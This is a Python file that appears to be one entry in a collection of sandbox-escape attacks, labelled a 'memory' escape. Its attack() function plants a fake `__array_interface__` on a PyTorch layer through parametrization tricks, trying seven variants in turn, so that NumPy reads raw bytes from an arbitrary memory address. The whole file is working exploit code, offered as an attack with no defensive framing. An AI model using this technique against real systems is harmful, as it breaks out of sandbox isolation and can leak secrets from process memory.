"""Class: memory. Source: own find. Escape: a parametrization is put under a name that C code asks
any object for, `__array_interface__`, and gives it the address to read at."""

import numpy as np
import torch
from torch import nn
from torch.nn.utils import parametrize

NAME = "__array_interface__"


class Same(nn.Module):
    def forward(self, x):
        return x


def attack(model, tokenizer, address):
    layer = nn.Linear(2, 2)
    parametrize.register_parametrization(layer, "weight", Same())
    steps = layer.parametrizations
    interface = {"data": (address, False), "shape": (6,), "typestr": "|u1", "version": 3}
    for put in (
        lambda: setattr(type(layer), NAME, interface),
        lambda: steps.update({NAME: steps["weight"]}),
        lambda: steps.add_module(NAME, steps["weight"]),
        lambda: steps.__setitem__(NAME, steps["weight"]),
        lambda: steps["weight"].register_buffer(NAME, torch.zeros(1)),
        lambda: parametrize.register_parametrization(layer, NAME, Same()),
        lambda: setattr(layer, NAME, interface),
    ):
        try:
            put()
            return bytes(np.asarray(layer))
        except Exception:
            continue
